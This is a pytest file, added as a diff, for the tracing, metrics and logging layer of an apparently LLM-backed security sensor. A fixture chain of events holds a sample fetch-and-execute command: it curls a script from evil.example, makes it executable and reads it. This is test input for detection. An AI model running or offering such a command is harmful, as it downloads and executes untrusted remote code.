@@ -1,0 +1,657 @@
+"""Observability: span tracing, traceparent propagation, exposition.
+
+Three layers of coverage (ISSUE: PR 4 observability):
+
+* unit — the trace primitives (ids, ring bound, context manager,
+  Chrome-trace export, stage breakdown) and the labeled metrics
+  registry (sliding-window rate, exposition grammar);
+* wire — traceparent headers across the sensor->brain hop, including a
+  retry resend (same trace_id, NEW span id) and a spool-drain resend
+  reusing the id the chain was first analyzed under;
+* full stack — a tiny-model scheduler behind the real HTTP server,
+  driven by the real AnalysisClient: one verdict's whole life
+  (sensor.analyze -> sensor.post -> server.generate -> queue wait ->
+  admission -> prefill with prefix-cache attrs -> decode steps ->
+  finish) must land in ONE trace, nest correctly, split TTFT by the
+  cache label, and show its trace_id in a structlog line.
+"""
+import json
+import logging
+import math
+import re
+
+import jax
+import pytest
+import requests
+
+from chronos_trn.config import (
+    CacheConfig,
+    EngineConfig,
+    ModelConfig,
+    SensorConfig,
+    ServerConfig,
+)
+from chronos_trn.core import model
+from chronos_trn.sensor.client import AnalysisClient, KillChainMonitor
+from chronos_trn.sensor.resilience import CircuitBreaker
+from chronos_trn.serving.backends import ModelBackend
+from chronos_trn.serving.engine import InferenceEngine
+from chronos_trn.serving.scheduler import Scheduler
+from chronos_trn.serving.server import ChronosServer
+from chronos_trn.testing.faults import (
+    CONNECT_REFUSED,
+    HTTP_500,
+    OK,
+    Fault,
+    FaultPlan,
+    FaultTransport,
+    FaultyBrainServer,
+)
+from chronos_trn.tokenizer.bpe import ByteTokenizer
+from chronos_trn.utils import trace as trace_lib
+from chronos_trn.utils.metrics import Metrics
+from chronos_trn.utils.structlog import JsonFormatter, get_logger, log_event
+from chronos_trn.utils.trace import (
+    GLOBAL as TRACER,
+    TRACEPARENT_HEADER,
+    Tracer,
+    format_traceparent,
+    parse_traceparent,
+)
+
+pytestmark = pytest.mark.obs
+
+_NOSLEEP = lambda s: None  # noqa: E731
+
+_CHAIN = [
+    "[EXEC] bash -> curl http://evil.example/x.sh",
+    "[EXEC] bash -> chmod +x /tmp/x.sh",
+    "[OPEN] cat -> /tmp/x.sh",
+]
+
+
+# ---------------------------------------------------------------------------
+# unit: trace primitives
+# ---------------------------------------------------------------------------
+def test_traceparent_roundtrip_and_rejects():
+    t = Tracer(capacity=16)
+    span = t.start_span("x")
+    hdr = format_traceparent(span.ctx)
+    ctx = parse_traceparent(hdr)
+    assert ctx is not None
+    assert ctx.trace_id == span.trace_id and ctx.span_id == span.span_id
+    # malformed / absent / all-zero ids must parse to None, never raise
+    assert parse_traceparent(None) is None
+    assert parse_traceparent("") is None
+    assert parse_traceparent("not a header") is None
+    assert parse_traceparent("00-zz-zz-01") is None
+    assert parse_traceparent("00-" + "0" * 32 + "-" + "1" * 16 + "-01") is None
+    assert parse_traceparent("00-" + "1" * 32 + "-" + "0" * 16 + "-01") is None
+    # case/whitespace tolerant on valid input
+    assert parse_traceparent("  " + hdr.upper() + "  ") == ctx
+
+
+def test_span_ring_bounded_under_10k_spans():
+    t = Tracer(capacity=256)
+    for i in range(10_000):
+        t.record("s", "a" * 32, None, float(i), float(i) + 0.5,
+                 attrs={"i": i})
+    assert len(t) == 256
+    assert t.dropped == 10_000 - 256
+    spans = t.spans()
+    assert len(spans) == 256
+    # ring keeps the NEWEST spans
+    assert spans[-1]["attrs"]["i"] == 9999
+    assert spans[0]["attrs"]["i"] == 10_000 - 256
+    # shrink keeps newest-that-fit
+    t.set_capacity(10)
+    assert len(t) == 10
+    assert t.spans()[-1]["attrs"]["i"] == 9999
+
+
+def test_span_context_manager_sets_trace_id_contextvar():
+    t = Tracer(capacity=16)
+    assert trace_lib.current_trace_id() is None
+    with t.start_span("outer") as outer:
+        assert trace_lib.current_trace_id() == outer.trace_id
+        with t.start_span("inner", parent=outer.ctx) as inner:
+            assert inner.trace_id == outer.trace_id
+            assert inner.parent_id == outer.span_id
+    assert trace_lib.current_trace_id() is None
+    spans = t.spans(trace_id=outer.trace_id)
+    assert [s["name"] for s in spans] == ["inner", "outer"]
+    # inner nests strictly inside outer
+    i, o = spans[0], spans[1]
+    assert o["start"] <= i["start"] and i["end"] <= o["end"]
+
+
+def test_span_exception_sets_error_attr():
+    t = Tracer(capacity=16)
+    with pytest.raises(ValueError):
+        with t.start_span("boom"):
+            raise ValueError("nope")
+    (s,) = t.spans()
+    assert s["attrs"]["error"] == "ValueError"
+    assert s["end"] is not None
+
+
+def test_disabled_tracer_records_nothing_but_propagates():
+    t = Tracer(capacity=16, enabled=False)
+    with t.start_span("x") as span:
+        assert trace_lib.current_trace_id() == span.trace_id
+        hdr = format_traceparent(span.ctx)
+    assert parse_traceparent(hdr) is not None
+    assert len(t) == 0 and t.dropped == 0
+
+
+def test_traces_summary_and_chrome_export(tmp_path):
+    t = Tracer(capacity=64)
+    with t.start_span("root", attrs={"k": "v"}) as root:
+        t.record("child", root.trace_id, root.span_id, root.start,
+                 root.start + 0.01)
+    summaries = t.traces()
+    assert summaries[0]["trace_id"] == root.trace_id
+    assert summaries[0]["spans"] == 2
+    assert summaries[0]["root"] == "root"
+    doc = trace_lib.to_chrome_trace(t.spans())
+    assert {e["name"] for e in doc["traceEvents"]} == {"root", "child"}
+    for e in doc["traceEvents"]:
+        assert e["ph"] == "X" and e["dur"] >= 0
+    path = tmp_path / "trace.json"
+    n = trace_lib.dump_chrome_trace(str(path), t.spans())
+    assert n == 2
+    loaded = json.loads(path.read_text())
+    assert len(loaded["traceEvents"]) == 2
+
+
+def test_stage_breakdown_table():
+    t = Tracer(capacity=64)
+    for i in range(10):
+        t.record("fast", "f" * 32, None, 0.0, 0.001 * (i + 1))
+        t.record("slow", "f" * 32, None, 0.0, 0.1 * (i + 1))
+    bd = trace_lib.stage_breakdown(t.spans())
+    assert bd["fast"]["count"] == 10
+    assert bd["fast"]["p50_ms"] < bd["fast"]["p99_ms"]
+    assert bd["slow"]["total_ms"] > bd["fast"]["total_ms"]
+    table = trace_lib.render_breakdown(bd)
+    lines = table.splitlines()
+    assert "stage" in lines[0] and "p99 ms" in lines[0]
+    # sorted by total time: slow first
+    assert lines[2].startswith("slow")
+    assert any(l.startswith("fast") for l in lines)
+
+
+# ---------------------------------------------------------------------------
+# unit: metrics — exposition grammar, sliding rate
+# ---------------------------------------------------------------------------
+_SAMPLE_RE = re.compile(
+    r"^([a-zA-Z_:][a-zA-Z0-9_:]*)(\{([^}]*)\})? (\S+)$")
+_LABEL_RE = re.compile(r'^([a-zA-Z_][a-zA-Z0-9_]*)="((?:[^"\\]|\\.)*)"$')
+
+
+def _validate_exposition(text: str):
+    """Assert `text` is valid Prometheus text exposition 0.0.4: grammar
+    per line, HELP/TYPE before each family's samples, cumulative
+    monotone histogram buckets ending at +Inf == _count, no NaN."""
+    types = {}
+    seen_families = set()
+    hist_buckets = {}  # (family, frozen labels minus le) -> [counts]
+    hist_counts = {}
+    for ln in text.splitlines():
+        if not ln:
+            continue
+        if ln.startswith("# HELP ") or ln.startswith("# TYPE "):
+            parts = ln.split(" ", 3)
+            assert len(parts) >= 3, f"bad comment line: {ln!r}"
+            if ln.startswith("# TYPE "):
+                assert parts[2] not in types, f"duplicate TYPE for {parts[2]}"
+                assert parts[3] in ("counter", "gauge", "histogram", "summary")
+                types[parts[2]] = parts[3]
+            continue
+        assert not ln.startswith("#"), f"unknown comment: {ln!r}"
+        m = _SAMPLE_RE.match(ln)
+        assert m, f"sample line fails grammar: {ln!r}"
+        name, _, labelstr, value = m.groups()
+        v = float(value)  # must parse
+        assert not math.isnan(v), f"NaN sample: {ln!r}"
+        labels = {}
+        if labelstr:
+            for pair in labelstr.split(","):
+                lm = _LABEL_RE.match(pair)
+                assert lm, f"bad label pair {pair!r} in {ln!r}"
+                labels[lm.group(1)] = lm.group(2)
+        # resolve the declared family this sample belongs to
+        fam = None
+        for cand, suffix in ((name, ""),
+                             *((name[: -len(s)], s) for s in
+                               ("_bucket", "_sum", "_count")
+                               if name.endswith(s))):
+            if cand in types:
+                fam, sfx = cand, suffix
+                break
+        assert fam is not None, f"sample {name} has no TYPE declaration"
+        if sfx in ("_bucket", "_sum", "_count") and sfx:
+            assert types[fam] == "histogram", \
+                f"{name}: histogram suffix on {types[fam]} family"
+        seen_families.add(fam)
+        if types[fam] == "histogram" and name.endswith("_bucket"):
+            assert "le" in labels, f"bucket without le: {ln!r}"
+            key = (fam, tuple(sorted((k, lv) for k, lv in labels.items()
+                                     if k != "le")))
+            prev = hist_buckets.setdefault(key, [])
+            assert v == int(v) and v >= (prev[-1][1] if prev else 0), \
+                f"non-monotone bucket: {ln!r}"
+            prev.append((labels["le"], v))
+        elif types[fam] == "histogram" and name.endswith("_count"):
+            key = (fam, tuple(sorted(labels.items())))
+            hist_counts[key] = v
+    for key, buckets in hist_buckets.items():
+        assert buckets[-1][0] == "+Inf", f"{key}: last bucket not +Inf"
+        if key in hist_counts:
+            assert buckets[-1][1] == hist_counts[key], \
+                f"{key}: +Inf bucket != _count"
+    return seen_families
+
+
+def test_exposition_validator_unit():
+    m = Metrics()
+    m.inc("events", 5)
+    m.inc("events", 2, labels={"kind": "exec"})
+    m.gauge("depth", 3, labels={"queue": "sched"})
+    m.gauge('weird-name with spaces!', 1.0)
+    m.observe("lat_s", 0.003)
+    m.observe("lat_s", 0.2, labels={"cache": "hit"})
+    m.observe("lat_s", 7.0, labels={"cache": 'va"l\\ue'})  # escaping
+    text = m.render_prometheus()
+    fams = _validate_exposition(text)
+    assert "chronos_events" in fams
+    assert "chronos_lat_s" in fams
+    # name sanitizer: [a-zA-Z0-9_:] only
+    assert "chronos_weird_name_with_spaces_" in fams
+    assert 'cache="hit"' in text
+    # label-value escaping survived
+    assert 'cache="va\\"l\\\\ue"' in text
+
+
+def test_exposition_no_nan_for_empty_series():
+    m = Metrics()
+    # a never-observed series still answers NaN via the API ...
+    assert math.isnan(m.percentile("never_observed", 50))
+    # ... but the exposition omits it instead of printing nan
+    m.inc("something", 1)
+    text = m.render_prometheus()
+    assert "nan" not in text.lower()
+    _validate_exposition(text)
+
+
+class _FakeClock:
+    def __init__(self, t=1000.0):
+        self.t = t
+
+    def __call__(self):
+        return self.t
+
+
+def test_sliding_window_rate_vs_lifetime():
+    clk = _FakeClock(1000.0)
+    m = Metrics(clock=clk)
+    # 60 events across the first 30 s
+    for i in range(30):
+        clk.t = 1000.0 + i
+        m.inc("ev", 2)
+    clk.t = 1030.0
+    # early life: window shrinks to uptime (30 s), not underreported
+    assert m.rate("ev") == pytest.approx(2.0, rel=0.05)
+    # a long idle gap: sliding rate decays to zero, lifetime averages
+    clk.t = 1600.0
+    assert m.rate("ev") == 0.0
+    assert m.rate_lifetime("ev") == pytest.approx(60 / 600.0, rel=0.01)
+    # burst after the idle night must READ as a burst (the whole point)
+    clk.t = 1700.0
+    m.inc("ev", 120)
+    clk.t = 1705.0
+    assert m.rate("ev") == pytest.approx(120 / 60.0, rel=0.05)
+    assert m.rate("ev") > m.rate_lifetime("ev")
+
+
+def test_ttft_labels_aggregate_for_unlabeled_readers():
+    m = Metrics()
+    m.observe("ttft_s", 0.010, labels={"cache": "hit"})
+    m.observe("ttft_s", 0.200, labels={"cache": "miss"})
+    # label-free percentile merges across label sets (BASELINE back-compat)
+    assert m.percentile("ttft_s", 0) == pytest.approx(0.010)
+    assert m.percentile("ttft_s", 100) == pytest.approx(0.200)
+    snap = m.snapshot()
+    assert snap["ttft_s_count"] == 2
+    assert snap['ttft_s{cache="hit"}_count'] == 1
+    text = m.render_prometheus()
+    _validate_exposition(text)
+    assert 'chronos_ttft_s_bucket{cache="hit",le="0.01"} 1' in text
+    assert 'chronos_ttft_s_count{cache="miss"} 1' in text
+
+
+# ---------------------------------------------------------------------------
+# unit: structlog satellites
+# ---------------------------------------------------------------------------
+class _Capture(logging.Handler):
+    def __init__(self):
+        super().__init__()
+        self.records = []
+
+    def emit(self, record):
+        self.records.append(record)
+
+
+def _chronos_handler(logger):
+    return next(h for h in logger.handlers
+                if getattr(h, "_chronos_structlog", False))
+
+
+def test_get_logger_honors_json_lines_on_repeat_calls():
+    lg = get_logger("fmtflip_test", json_lines=True)
+    assert isinstance(_chronos_handler(lg).formatter, JsonFormatter)
+    # the old behavior silently kept the first caller's choice; now the
+    # flag wins on every call
+    lg2 = get_logger("fmtflip_test", json_lines=False)
+    assert lg2 is lg
+    assert not isinstance(_chronos_handler(lg).formatter, JsonFormatter)
+    get_logger("fmtflip_test", json_lines=True)
+    assert isinstance(_chronos_handler(lg).formatter, JsonFormatter)
+
+
+def test_log_event_trace_id_passthrough_and_contextvar():
+    lg = get_logger("trace_log_test")
+    cap = _Capture()
+    lg.addHandler(cap)
+    try:
+        log_event(lg, "explicit", trace_id="t" * 32, foo=1)
+        t = Tracer(capacity=4)
+        with t.start_span("op") as span:
+            log_event(lg, "implicit")
+        log_event(lg, "bare")
+    finally:
+        lg.removeHandler(cap)
+    by_msg = {r.getMessage(): r.fields for r in cap.records}
+    assert by_msg["explicit"]["trace_id"] == "t" * 32
+    assert by_msg["explicit"]["foo"] == 1
+    assert by_msg["implicit"]["trace_id"] == span.trace_id
+    assert "trace_id" not in by_msg["bare"]
+    # and the JSON formatter itself injects the contextvar id
+    with t.start_span("fmt") as span2:
+        rec = logging.LogRecord("chronos.x", logging.INFO, __file__, 1,
+                                "hello", (), None)
+        line = json.loads(JsonFormatter().format(rec))
+    assert line["trace_id"] == span2.trace_id
+
+
+# ---------------------------------------------------------------------------
+# wire: traceparent propagation through retries and the spool
+# ---------------------------------------------------------------------------
+def _fast_cfg(**kw):
+    defaults = dict(
+        server_url="http://brain.test/api/generate",
+        http_timeout_s=1.0,
+        retry_max_attempts=3,
+        retry_backoff_base_s=0.001,
+        retry_backoff_cap_s=0.002,
+        breaker_failure_threshold=99,
+        breaker_open_duration_s=0.05,
+        spool_drain_interval_s=0,
+    )
+    defaults.update(kw)
+    return SensorConfig(**defaults)
+
+
+def _fault_client(plan, **cfg_kw):
+    cfg = _fast_cfg(**cfg_kw)
+    transport = FaultTransport(plan, sleep=_NOSLEEP)
+    client = AnalysisClient(
+        cfg, transport=transport,
+        breaker=CircuitBreaker(99, 1.0, metrics=Metrics()),
+        sleep=_NOSLEEP,
+    )
+    return client, transport
+
+
+def test_retry_resend_keeps_trace_id_with_new_span():
+    plan = FaultPlan([Fault(HTTP_500)], default=Fault(OK))
+    client, transport = _fault_client(plan)
+    verdict = client.analyze(_CHAIN)
+    assert verdict["verdict"] != "ERROR"
+    tid = verdict["_trace_id"]
+    assert len(transport.headers_seen) == 2  # original + one retry
+    ctxs = [parse_traceparent(h.get(TRACEPARENT_HEADER))
+            for h in transport.headers_seen]
+    assert all(c is not None for c in ctxs)
+    # retries continue the SAME trace with a FRESH span per attempt
+    assert ctxs[0].trace_id == ctxs[1].trace_id == tid
+    assert ctxs[0].span_id != ctxs[1].span_id
+    spans = TRACER.spans(trace_id=tid)
+    posts = [s for s in spans if s["name"] == "sensor.post"]
+    assert [p["attrs"]["attempt"] for p in posts] == [0, 1]
+    assert posts[0]["attrs"]["status"] == 500
+    assert posts[1]["attrs"]["status"] == 200
+    root = next(s for s in spans if s["name"] == "sensor.analyze")
+    assert all(p["parent_id"] == root["span_id"] for p in posts)
+
+
+def test_wire_level_traceparent_reaches_real_server():
+    brain = FaultyBrainServer(
+        FaultPlan([Fault(HTTP_500)], default=Fault(OK))).start()
+    try:
+        cfg = _fast_cfg(server_url=brain.url, http_timeout_s=5.0)
+        client = AnalysisClient(
+            cfg, breaker=CircuitBreaker(99, 1.0, metrics=Metrics()),
+            sleep=_NOSLEEP,
+        )
+        verdict = client.analyze(_CHAIN)
+    finally:
+        brain.stop()
+    assert verdict["verdict"] != "ERROR"
+    assert len(brain.traceparents) == 2
+    ctxs = [parse_traceparent(h) for h in brain.traceparents]
+    assert all(c is not None for c in ctxs), brain.traceparents
+    assert ctxs[0].trace_id == ctxs[1].trace_id == verdict["_trace_id"]
+    assert ctxs[0].span_id != ctxs[1].span_id
+
+
+def test_spool_drain_resend_reuses_trace_id():
+    plan = FaultPlan(default=Fault(CONNECT_REFUSED))
+    client, transport = _fault_client(plan, retry_max_attempts=1)
+    mon = KillChainMonitor(client.cfg, client=client,
+                           alert_fn=lambda s: None)
+    mon.memory[7] = list(_CHAIN)
+    mon._analyze_window(7)
+    assert len(mon.spool) == 1
+    first = parse_traceparent(
+        transport.headers_seen[0].get(TRACEPARENT_HEADER))
+    assert first is not None
+    # brain recovers; the drain resend must continue the ORIGINAL trace
+    plan.default = Fault(OK)
+    assert mon.drain_spool() == 1
+    resend = parse_traceparent(
+        transport.headers_seen[-1].get(TRACEPARENT_HEADER))
+    assert resend.trace_id == first.trace_id
+    assert resend.span_id != first.span_id
+    names = [s["name"] for s in TRACER.spans(trace_id=first.trace_id)]
+    # the outage shows up as an explicit spool-wait stage
+    assert "sensor.spool_wait" in names
+    assert names.count("sensor.analyze") == 2  # original + replay
+
+
+def test_disabled_global_tracer_still_stamps_headers():
+    plan = FaultPlan(default=Fault(OK))
+    client, transport = _fault_client(plan)
+    was_enabled = TRACER.enabled
+    before = len(TRACER)
+    TRACER.enabled = False
+    try:
+        verdict = client.analyze(_CHAIN)
+    finally:
+        TRACER.enabled = was_enabled
+    assert verdict["verdict"] != "ERROR"
+    assert len(TRACER) == before  # nothing recorded ...
+    ctx = parse_traceparent(
+        transport.headers_seen[0].get(TRACEPARENT_HEADER))
+    assert ctx is not None  # ... but propagation still works
+    assert verdict["_trace_id"] == ctx.trace_id
+
+
+# ---------------------------------------------------------------------------
+# full stack: tiny model + scheduler + HTTP server + real sensor client
+# ---------------------------------------------------------------------------
+MCFG = ModelConfig.tiny()
+CCFG = CacheConfig(page_size=8, num_pages=128, max_pages_per_seq=16)
+ECFG = EngineConfig(
+    max_batch_slots=4,
+    prefill_buckets=(16, 32, 64),
+    max_new_tokens=32,
+    fused_decode=False,
+    prefix_cache=True,       # second identical prompt => cache=hit TTFT
+    prefix_cache_pages=32,
+)
+
+
+@pytest.fixture(scope="module")
+def engine():
+    params = model.init_params(MCFG, jax.random.PRNGKey(0))
+    return InferenceEngine(params, MCFG, CCFG, ECFG)
+
+
+@pytest.fixture(scope="module")
+def scheduler(engine):
+    sched = Scheduler(engine, ByteTokenizer(vocab_size=MCFG.vocab_size), ECFG)
+    sched.start()
+    yield sched
+    sched.stop()
+
+
+@pytest.fixture(scope="module")
+def model_server(scheduler):
+    server = ChronosServer(
+        ModelBackend(scheduler), ServerConfig(host="127.0.0.1", port=0)
+    )
+    server.start()
+    yield f"http://127.0.0.1:{server.port}"
+    server.stop()
+
+
+@pytest.fixture(scope="module")
+def traffic(model_server):
+    """Two identical verdict requests through the REAL sensor client
+    (second one hits the prefix cache), with server log lines captured."""
+    cfg = SensorConfig(
+        server_url=f"{model_server}/api/generate",
+        http_timeout_s=120.0,
+        retry_backoff_base_s=0.01,
+        retry_backoff_cap_s=0.05,
+        spool_drain_interval_s=0,
+    )
+    client = AnalysisClient(cfg)
+    server_log = get_logger("server")
+    cap = _Capture()
+    server_log.addHandler(cap)
+    try:
+        v1 = client.analyze(_CHAIN)
+        v2 = client.analyze(_CHAIN)
+    finally:
+        server_log.removeHandler(cap)
+    return {"v1": v1, "v2": v2, "records": cap.records,
+            "base": model_server}
+
+
+def _spans_by_name(tid):
+    by = {}
+    for s in TRACER.spans(trace_id=tid):
+        by.setdefault(s["name"], []).append(s)
+    return by
+
+
+def test_full_span_chain_over_the_wire(traffic):
+    """ISSUE acceptance: client send -> server receive -> admission ->
+    queue -> prefill (prefix-cache attrs) -> decode steps -> finish,
+    all one trace, children nested in their parents' durations."""
+    tid = traffic["v2"]["_trace_id"]
+    by = _spans_by_name(tid)
+    required = {"sensor.analyze", "sensor.post", "server.generate",
+                "sched.queue_wait", "sched.admission", "sched.prefill",
+                "sched.decode_step", "sched.detokenize", "sched.finish",
+                "server.response_write"}
+    assert required <= set(by), f"missing spans: {required - set(by)}"
+    assert len(by["sched.decode_step"]) >= 1
+
+    # one analyze may take several wire attempts (each a post/generate
+    # pair in the SAME trace) — group scheduler spans per attempt
+    root = by["sensor.analyze"][0]
+    posts = {p["span_id"]: p for p in by["sensor.post"]}
+    gens = {g["span_id"]: g for g in by["server.generate"]}
+    for g in gens.values():
+        # cross-boundary parenting came from the traceparent header
+        assert g["parent_id"] in posts
+        p = posts[g["parent_id"]]
+        # cross-wire: the server span starts inside the client's post
+        # span; its tail (final log line) may outlive the client read
+        assert p["start"] <= g["start"]
+        assert g["end"] <= p["end"] + 0.5
+    for p in posts.values():
+        assert p["parent_id"] == root["span_id"]
+        assert root["start"] <= p["start"] and p["end"] <= root["end"]
+    # every scheduler span is a child of one server.generate attempt and
+    # nests strictly inside it (same process, same monotonic clock)
+    sched_names = ["sched.queue_wait", "sched.admission", "sched.prefill",
+                   "sched.decode_step", "sched.detokenize", "sched.finish"]
+    for name in sched_names + ["server.response_write"]:
+        for s in by[name]:
+            assert s["parent_id"] in gens, name
+            g = gens[s["parent_id"]]
+            assert g["start"] <= s["start"] + 1e-9, name
+            assert s["end"] <= g["end"] + 1e-9, name
+
+    # prefix-cache attribution: request 1 missed, request 2 hit
+    pf2 = by["sched.prefill"][0]["attrs"]
+    assert pf2["cache"] == "hit" and pf2["cache_hit_tokens"] > 0
+    assert pf2["cache_hit_tokens"] + pf2["cache_miss_tokens"] == \
+        pf2["prompt_tokens"]
+    pf1 = _spans_by_name(traffic["v1"]["_trace_id"])["sched.prefill"][0]
+    assert pf1["attrs"]["cache"] == "miss"
+    assert pf1["attrs"]["cache_hit_tokens"] == 0
+
+
+def test_trace_id_lands_in_structlog_line(traffic):
+    tid = traffic["v2"]["_trace_id"]
+    hits = [r for r in traffic["records"]
+            if getattr(r, "fields", {}).get("trace_id") == tid]
+    assert hits, "no server log line carried the trace_id"
+    assert any(r.getMessage() == "generate" for r in hits)
+    # and the rendered JSON line carries it too
+    line = json.loads(JsonFormatter().format(hits[0]))
+    assert line["trace_id"] == tid
+
+
+def test_debug_trace_endpoints(traffic):
+    base = traffic["base"]
+    tid = traffic["v2"]["_trace_id"]
+    listing = requests.get(f"{base}/debug/traces", timeout=5).json()
+    assert any(t["trace_id"] == tid for t in listing["traces"])
+    one = requests.get(f"{base}/debug/trace?id={tid}", timeout=5).json()
+    assert one["trace_id"] == tid
+    assert {"server.generate", "sched.prefill"} <= \
+        {s["name"] for s in one["spans"]}
+    r = requests.get(f"{base}/debug/trace", timeout=5)
+    assert r.status_code == 400
+    r = requests.get(f"{base}/debug/trace?id={'f' * 32}", timeout=5)
+    assert r.status_code == 404
+    bd = requests.get(f"{base}/debug/breakdown", timeout=5).json()
+    assert "sched.prefill" in bd["stages"]
+    assert bd["stages"]["sched.prefill"]["count"] >= 2
+
+
+def test_live_metrics_exposition_with_cache_split(traffic):
+    text = requests.get(f"{traffic['base']}/metrics", timeout=5).text
+    fams = _validate_exposition(text)
+    assert "chronos_ttft_s" in fams
+    # ISSUE acceptance: ttft split by prefix-cache outcome
+    assert 'chronos_ttft_s_bucket{cache="hit"' in text
+    assert 'chronos_ttft_s_bucket{cache="miss"' in text
+    assert 'chronos_verdict_latency_s_count{outcome="clean"}' in text
+    assert "# TYPE chronos_ttft_s histogram" in text
